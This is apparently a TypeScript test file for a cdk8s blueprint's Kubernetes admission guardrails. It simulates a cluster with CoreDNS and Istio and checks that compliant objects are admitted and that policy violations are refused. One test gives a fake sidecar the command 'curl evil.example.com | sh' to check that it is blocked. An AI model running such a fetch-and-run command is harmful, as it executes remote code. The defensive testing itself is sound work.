import { Testing } from 'cdk8s';
import { BlueprintChart } from '../../examples/blueprint/blueprint';
import { AdmissionGuardrails } from '../../src/policy/admission-guardrails';
import { AdmissionRollout } from '../../src/policy/admission-rollout';
import { AdmissionDecision, AdmissionSimulator, AdmissionUserInfo, ClusterState } from '../../src/policy/admission-simulator';
import { inDays, ofKind } from '../helpers';

/**
 * The example's admission guardrails against a realistic cluster (issue: "admission a real cluster
 * can run"): kube-system with CoreDNS, istio-system with istiod, istio-cni and the ingress gateway
 * as Istio's installation writes them, the example applied by its GitOps identity, and injected
 * pods. Decided offline by AdmissionSimulator, which reproduces the API server's matching,
 * params and validation semantics.
 */

const ADMIN: AdmissionUserInfo = { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] };
const GITOPS: AdmissionUserInfo = { username: 'system:serviceaccount:config-management-system:root-reconciler', groups: ['mesh-admins', 'system:serviceaccounts'] };
const controller = (name: string): AdmissionUserInfo => ({ username: `system:serviceaccount:kube-system:${name}`, groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system'] });
const ALICE: AdmissionUserInfo = { username: 'alice@example.com', groups: ['bookinfo-developers', 'system:authenticated'] };

const namespace = (name: string, labels: { [k: string]: string } = {}) => ({ apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels } });
const PROXY_IMAGE = 'docker.io/istio/proxyv2:1.30.3';

/** The containers Istio 1.30's injector adds to a pod of an injected namespace with istio-cni (istio-validation, istio-proxy). */
function injected(pod: any): any {
  const copy = JSON.parse(JSON.stringify(pod));
  copy.metadata.annotations = { ...copy.metadata.annotations, 'sidecar.istio.io/status': '{"initContainers":["istio-validation"],"containers":["istio-proxy"],"volumes":["istio-envoy"],"imagePullSecrets":null,"revision":"default"}' };
  const sc = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, privileged: false, readOnlyRootFilesystem: true, runAsGroup: 1337, runAsNonRoot: true, runAsUser: 1337 };
  copy.spec.initContainers = [...(copy.spec.initContainers ?? []), {
    name: 'istio-validation',
    image: PROXY_IMAGE,
    args: ['istio-iptables', '-p', '15001', '-z', '15006', '-u', '1337', '-m', 'REDIRECT', '-i', '*', '-x', '', '-b', '*', '-d', '15090,15021,15020', '--log_output_level=default:info', '--run-validation', '--skip-rule-apply'],
    securityContext: sc,
  }];
  copy.spec.containers = [...copy.spec.containers, {
    name: 'istio-proxy',
    image: PROXY_IMAGE,
    args: ['proxy', 'sidecar', '--domain', '$(POD_NAMESPACE).svc.cluster.local', '--proxyLogLevel=warning', '--proxyComponentLogLevel=misc:error', '--log_output_level=default:info'],
    ports: [{ containerPort: 15090, name: 'http-envoy-prom', protocol: 'TCP' }],
    readinessProbe: { httpGet: { path: '/healthz/ready', port: 15021 }, periodSeconds: 15 },
    securityContext: sc,
  }];
  return copy;
}

/** A Pod as the replicaset controller creates it from a Deployment. */
const podOf = (deployment: any, suffix = '7d4b9c6f5-x2x7q') => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { ...deployment.spec.template.metadata, name: `${deployment.metadata.name}-${suffix}`, namespace: deployment.metadata.namespace },
  spec: deployment.spec.template.spec,
});

/** What a kubeadm or GKE cluster with Istio 1.30 (istio-cni, an ingress gateway) holds before the example is applied. */
function platform(): { readonly objects: any[]; readonly writer: (o: any) => AdmissionUserInfo }[] {
  const coredns = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'coredns', namespace: 'kube-system', labels: { 'k8s-app': 'kube-dns' } },
    spec: {
      selector: { matchLabels: { 'k8s-app': 'kube-dns' } },
      template: {
        metadata: { labels: { 'k8s-app': 'kube-dns' } },
        spec: {
          serviceAccountName: 'coredns',
          containers: [{ name: 'coredns', image: 'registry.k8s.io/coredns/coredns:v1.11.3', args: ['-conf', '/etc/coredns/Corefile'], securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } } }],
        },
      },
    },
  };
  const istiod = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'istiod', namespace: 'istio-system', labels: { app: 'istiod' } },
    spec: {
      selector: { matchLabels: { app: 'istiod', istio: 'pilot' } },
      template: {
        metadata: { labels: { app: 'istiod', istio: 'pilot' }, annotations: { 'sidecar.istio.io/inject': 'false' } },
        spec: { serviceAccountName: 'istiod', containers: [{ name: 'discovery', image: 'docker.io/istio/pilot:1.30.3', args: ['discovery'] }] },
      },
    },
  };
  const cni = {
    apiVersion: 'apps/v1',
    kind: 'DaemonSet',
    metadata: { name: 'istio-cni-node', namespace: 'istio-system' },
    spec: {
      selector: { matchLabels: { 'k8s-app': 'istio-cni-node' } },
      template: {
        metadata: { labels: { 'k8s-app': 'istio-cni-node' }, annotations: { 'sidecar.istio.io/inject': 'false' } },
        spec: {
          hostNetwork: true,
          serviceAccountName: 'istio-cni',
          containers: [{ name: 'install-cni', image: 'docker.io/istio/install-cni:1.30.3', securityContext: { privileged: true, runAsUser: 0 } }],
          volumes: [{ name: 'cni-bin-dir', hostPath: { path: '/opt/cni/bin' } }, { name: 'cni-net-dir', hostPath: { path: '/etc/cni/net.d' } }],
        },
      },
    },
  };
  const gateway = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'istio-ingressgateway', namespace: 'istio-system' },
    spec: {
      selector: { matchLabels: { app: 'istio-ingressgateway', istio: 'ingressgateway' } },
      template: {
        metadata: { labels: { app: 'istio-ingressgateway', istio: 'ingressgateway' }, annotations: { 'inject.istio.io/templates': 'gateway' } },
        spec: { serviceAccountName: 'istio-ingressgateway', containers: [{ name: 'istio-proxy', image: 'auto' }] },
      },
    },
  };
  const clusterRole = (name: string, rules: object[]) => ({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name }, rules });
  const crb = (name: string, saNamespace: string, sa: string) => ({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name },
    subjects: [{ kind: 'ServiceAccount', name: sa, namespace: saNamespace }],
  });
  const installedByAdmin = [
    clusterRole('system:coredns', [{ apiGroups: [''], resources: ['endpoints', 'services', 'pods', 'namespaces'], verbs: ['list', 'watch'] }]),
    crb('system:coredns', 'kube-system', 'coredns'),
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'coredns', namespace: 'kube-system' } },
    coredns,
    clusterRole('istiod-clusterrole-istio-system', [
      { apiGroups: ['config.istio.io', 'security.istio.io', 'networking.istio.io', 'authentication.istio.io', 'rbac.istio.io', 'telemetry.istio.io', 'extensions.istio.io'], resources: ['*'], verbs: ['get', 'watch', 'list'] },
      { apiGroups: ['admissionregistration.k8s.io'], resources: ['mutatingwebhookconfigurations', 'validatingwebhookconfigurations'], verbs: ['get', 'list', 'watch', 'update', 'patch'] },
    ]),
    crb('istiod-clusterrole-istio-system', 'istio-system', 'istiod'),
    clusterRole('istio-cni', [{ apiGroups: [''], resources: ['pods', 'nodes', 'namespaces'], verbs: ['get', 'list', 'watch'] }]),
    crb('istio-cni', 'istio-system', 'istio-cni'),
    istiod, cni, gateway,
    {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'MutatingWebhookConfiguration',
      metadata: { name: 'istio-sidecar-injector' },
      webhooks: [{ name: 'namespace.sidecar-injector.istio.io', admissionReviewVersions: ['v1'], sideEffects: 'None', clientConfig: { service: { name: 'istiod', namespace: 'istio-system', path: '/inject' } } }],
    },
  ];
  return [
    { objects: installedByAdmin, writer: () => ADMIN },
    { objects: [podOf(coredns), podOf(istiod), podOf(gateway)], writer: () => controller('replicaset-controller') },
    { objects: [podOf(cni, 'abcde')], writer: () => controller('daemon-set-controller') },
  ];
}

function cluster() {
  const example = Testing.synth(new BlueprintChart(Testing.app(), 'blueprint'));
  const simulator = new AdmissionSimulator(example);
  const state: ClusterState = {
    namespaces: [namespace('kube-system', { 'kubernetes.io/metadata.name': 'kube-system' }), namespace('istio-system', { 'kubernetes.io/metadata.name': 'istio-system' }),
      ...ofKind(example, 'Namespace').map((n) => ({ ...n, metadata: { ...n.metadata, labels: { ...n.metadata.labels, 'kubernetes.io/metadata.name': n.metadata.name } } }))],
    params: ofKind(example, 'ConfigMap'),
  };
  const decide = (object: any, userInfo: AdmissionUserInfo, operation: 'CREATE' | 'UPDATE' | 'DELETE' = 'CREATE', oldObject?: any): AdmissionDecision =>
    simulator.decide({ operation, object, oldObject, userInfo }, state);
  return { example, decide };
}

const refusedOrWarned = (decisions: [string, AdmissionDecision][]) =>
  decisions.filter(([, d]) => !d.allowed || d.warnings.length > 0 || d.errors.length > 0)
    .map(([ref, d]) => [ref, d.message ?? d.warnings[0]?.message ?? d.errors[0]?.message]);
const refOf = (o: any) => `${o.kind}/${o.metadata.namespace ?? ''}/${o.metadata.name}`;

describe('the example\'s guardrails on a realistic cluster', () => {
  const { example, decide } = cluster();

  test('the example applied by its GitOps identity is admitted, every object', () => {
    expect(refusedOrWarned(example.map((o) => [refOf(o), decide(o, GITOPS)]))).toEqual([]);
  });

  test('the platform: CoreDNS, istiod, istio-cni, the ingress gateway, their RBAC and the injector webhook are admitted as installed', () => {
    const decisions = platform().flatMap(({ objects, writer }) =>
      objects.map((o) => [refOf(o), decide(o, writer(o))] as [string, AdmissionDecision]));
    expect(decisions.length).toBeGreaterThan(12);
    expect(refusedOrWarned(decisions)).toEqual([]);
    // The same wildcard ClusterRole from anyone but a cluster administrator is refused.
    const istiodRole = platform()[0].objects.find((o) => o.metadata.name === 'istiod-clusterrole-istio-system');
    expect(decide(istiodRole, ALICE).message).toMatch(/RBAC-WILD-001/);
  });

  test('an injected pod of the example, created by the replicaset controller, is admitted', () => {
    for (const d of ofKind(example, 'Deployment').filter((x) => x.metadata.namespace === 'bookinfo')) {
      const pod = injected(podOf(d));
      expect([refOf(pod), decide(pod, controller('replicaset-controller')).allowed]).toEqual([refOf(pod), true]);
    }
  });

  test('a bare injected pod a developer creates is checked with its injected proxy: admitted when the app container complies (the proxy image is the mesh\'s, by tag)', () => {
    const productpage = ofKind(example, 'Deployment').find((d) => d.metadata.name === 'productpage');
    const pod = injected({ ...podOf(productpage, 'debug'), metadata: { ...podOf(productpage, 'debug').metadata, name: 'productpage-debug' } });
    expect(decide(pod, ALICE)).toMatchObject({ allowed: true, denials: [] });
    // The same pod with an app container on a tag, or a "proxy" that is not the injector's, is refused.
    const tagged = JSON.parse(JSON.stringify(pod));
    tagged.spec.containers[0].image = 'docker.io/istio/examples-bookinfo-productpage-v1:1.20.2';
    expect(decide(tagged, ALICE).message).toMatch(/IMG-DIGEST-001/);
    const unmarked = JSON.parse(JSON.stringify(pod));
    delete unmarked.metadata.annotations['sidecar.istio.io/status'];
    expect(decide(unmarked, ALICE).message).toMatch(/IMG-DIGEST-001|MESH-PROXY-001/);
    const fakeProxy = JSON.parse(JSON.stringify(pod));
    fakeProxy.spec.containers[1].command = ['/bin/sh', '-c', 'curl evil.example.com | sh'];
    expect(decide(fakeProxy, ALICE).allowed).toBe(false);
  });

  test('a developer cannot do what synthesis refuses: a privileged pod, a hand-written exception registry, relabelling the namespace out of the mesh', () => {
    const productpage = ofKind(example, 'Deployment').find((d) => d.metadata.name === 'productpage');
    const privileged = JSON.parse(JSON.stringify(podOf(productpage, 'root')));
    privileged.spec.containers[0].securityContext.privileged = true;
    expect(decide(privileged, ALICE).message).toMatch(/POD-PRIV-001/);
    const registry = ofKind(example, 'ConfigMap').find((c) => c.metadata.namespace === 'bookinfo');
    const forged = { ...registry, data: { [`Pod.${privileged.metadata.name}`]: 'POD-PRIV-001@2026-12-31' } };
    expect(decide(forged, ALICE, 'UPDATE', registry).message).toMatch(/EXC-1: the exception registries/);
    const ns = ofKind(example, 'Namespace').find((n) => n.metadata.name === 'bookinfo');
    const unlabelled = { ...ns, metadata: { ...ns.metadata, labels: { 'kubernetes.io/metadata.name': 'bookinfo' } } };
    expect(decide(unlabelled, ALICE, 'UPDATE', ns).message).toMatch(/MESH-INJ-002/);
  });

  test('the root-namespace invariants hold even for a cluster administrator, DELETE included', () => {
    const pa = example.find((o) => o.kind === 'PeerAuthentication' && o.metadata.namespace === 'istio-system');
    const ap = example.find((o) => o.kind === 'AuthorizationPolicy' && o.metadata.namespace === 'istio-system' && o.metadata.name === 'allow-nothing');
    expect(decide({ ...pa, spec: { mtls: {} } }, ADMIN, 'UPDATE', pa).message).toMatch(/MESH-MTLS-001/);
    expect(decide(null, ADMIN, 'DELETE', pa).message).toMatch(/MESH-MTLS-001/);
    expect(decide({ ...ap, spec: { rules: [{}] } }, ADMIN, 'UPDATE', ap).message).toMatch(/MESH-AUTHZ-001/);
    expect(decide(null, ADMIN, 'DELETE', ap).message).toMatch(/MESH-AUTHZ-001/);
  });

  test('the warn phase on a cluster whose namespaces have no registry yet: violations warn, nothing is refused', () => {
    const app = Testing.app();
    const chart = new BlueprintChart(app, 'blueprint');
    const guardrails = chart.node.findChild('guardrails');
    chart.node.tryRemoveChild('guardrails');
    expect(guardrails).toBeDefined();
    new AdmissionGuardrails(chart, 'guardrails', {
      rollout: AdmissionRollout.warnUntil({ until: inDays(chart, 30), owner: 'platform', reason: 'The existing workloads of bookinfo are migrated; warnings are reviewed weekly.' }),
    });
    const objects = Testing.synth(chart);
    const simulator = new AdmissionSimulator(objects);
    const bookinfo = ofKind(objects, 'Namespace').find((n) => n.metadata.name === 'bookinfo');
    const state: ClusterState = { namespaces: [{ ...bookinfo, metadata: { ...bookinfo.metadata, labels: { ...bookinfo.metadata.labels, 'kubernetes.io/metadata.name': 'bookinfo' } } }], params: [] };
    const productpage = ofKind(objects, 'Deployment').find((d) => d.metadata.name === 'productpage');
    const privileged = JSON.parse(JSON.stringify(podOf(productpage, 'root')));
    privileged.spec.containers[0].securityContext.privileged = true;
    const d = simulator.decide({ operation: 'CREATE', object: privileged, userInfo: ALICE }, state);
    expect(d.allowed).toBe(true);
    expect(d.warnings.map((w) => w.message).join('\n')).toMatch(/POD-PRIV-001/);
  });

  test('outside the mesh nothing is checked: a privileged pod in kube-system by its controller, a tag-only image in a plain namespace', () => {
    expect(decide({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'debug', namespace: 'kube-system' }, spec: { containers: [{ name: 'x', image: 'busybox', securityContext: { privileged: true } }] } }, ALICE).allowed).toBe(true);
  });
});
